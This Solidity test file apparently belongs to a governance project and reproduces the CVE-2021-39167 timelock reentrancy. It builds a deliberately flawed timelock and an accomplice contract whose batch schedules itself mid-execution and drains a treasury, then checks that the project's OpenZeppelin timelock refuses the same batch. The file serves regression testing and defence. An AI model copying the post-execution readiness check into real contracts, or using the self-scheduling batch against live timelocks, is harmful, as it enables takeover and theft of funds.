// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.35;

import {IAccessControl} from "@openzeppelin/contracts/access/IAccessControl.sol";
import {TimelockController} from "@openzeppelin/contracts/governance/TimelockController.sol";
import {Address} from "@openzeppelin/contracts/utils/Address.sol";

import {Motion} from "../SystemTest.t.sol";
import {AttackTest} from "./AttackTest.t.sol";

/// @dev Checks that an operation was ready, but only after its calls.
contract LateCheckingTimelock {
    uint256 public delay = 2 days;
    mapping(address account => bool) public isProposer;
    mapping(bytes32 operation => uint256) public readyAt;

    error Refused();

    modifier onlySelf() {
        if (msg.sender != address(this)) revert Refused();
        _;
    }

    function schedule(bytes32 operation) external {
        if (!isProposer[msg.sender]) revert Refused();
        readyAt[operation] = block.timestamp + delay;
    }

    function execute(address[] calldata targets, bytes[] calldata calldatas) external {
        for (uint256 i = 0; i < targets.length; ++i) {
            Address.functionCall(targets[i], calldatas[i]);
        }
        uint256 ready = readyAt[keccak256(abi.encode(targets, calldatas))];
        if (ready == 0 || ready > block.timestamp) revert Refused();
    }

    function updateDelay(uint256 newDelay) external onlySelf {
        delay = newDelay;
    }

    function addProposer(address account) external onlySelf {
        isProposer[account] = true;
    }
}

/// @dev Schedules, from inside the operation, the operation itself.
contract Accomplice {
    bytes32 private _operation;

    function prepare(bytes32 operation) external {
        _operation = operation;
    }

    function schedule(LateCheckingTimelock timelock) external {
        timelock.schedule(_operation);
    }
}

/// @notice CVE-2021-39167: an operation that nobody had scheduled made itself scheduled while it ran, and took the timelock over.
contract TimelockReentryTest is AttackTest {
    function test_controlAnOperationSchedulesItselfWhileItRuns() public {
        LateCheckingTimelock late = new LateCheckingTimelock();
        Accomplice accomplice = new Accomplice();
        _give(address(late), TREASURY);
        address[] memory targets = new address[](4);
        bytes[] memory calldatas = new bytes[](4);
        (targets[0], calldatas[0]) = (address(late), abi.encodeCall(late.updateDelay, (0)));
        (targets[1], calldatas[1]) = (address(late), abi.encodeCall(late.addProposer, (address(accomplice))));
        (targets[2], calldatas[2]) = (address(accomplice), abi.encodeCall(accomplice.schedule, (late)));
        (targets[3], calldatas[3]) = (address(token), abi.encodeCall(token.transfer, (attacker, TREASURY)));
        accomplice.prepare(keccak256(abi.encode(targets, calldatas)));
        vm.prank(attacker);
        late.execute(targets, calldatas);
        assertEq(token.balanceOf(attacker), TREASURY);
        assertTrue(late.isProposer(address(accomplice)));
    }

    function test_oursOnlyTheGovernorExecutes() public {
        Motion memory motion = _selfScheduling();
        vm.expectRevert(
            abi.encodeWithSelector(
                IAccessControl.AccessControlUnauthorizedAccount.selector, attacker, timelock.EXECUTOR_ROLE()
            )
        );
        vm.prank(attacker);
        timelock.executeBatch(motion.targets, motion.values, motion.calldatas, 0, 0);
    }

    /// @dev Even for an executor, an operation that is not ready does not begin.
    function test_oursReadinessIsCheckedBeforeTheFirstCall() public {
        Motion memory motion = _selfScheduling();
        bytes32 operation = timelock.hashOperationBatch(motion.targets, motion.values, motion.calldatas, 0, 0);
        vm.expectCall(address(timelock), motion.calldatas[0], 0);
        vm.expectRevert(
            abi.encodeWithSelector(
                TimelockController.TimelockUnexpectedOperationState.selector,
                operation,
                bytes32(2 ** uint8(TimelockController.OperationState.Ready))
            )
        );
        vm.prank(address(governor));
        timelock.executeBatch(motion.targets, motion.values, motion.calldatas, 0, 0);
        assertEq(timelock.getMinDelay(), 3 days);
    }

    function _selfScheduling() private view returns (Motion memory motion) {
        motion.targets = new address[](2);
        motion.values = new uint256[](2);
        motion.calldatas = new bytes[](2);
        (motion.targets[0], motion.calldatas[0]) = (address(timelock), abi.encodeCall(timelock.updateDelay, (2 days)));
        (motion.targets[1], motion.calldatas[1]) =
        (address(timelock), abi.encodeCall(timelock.grantRole, (timelock.PROPOSER_ROLE(), attacker)));
    }
}
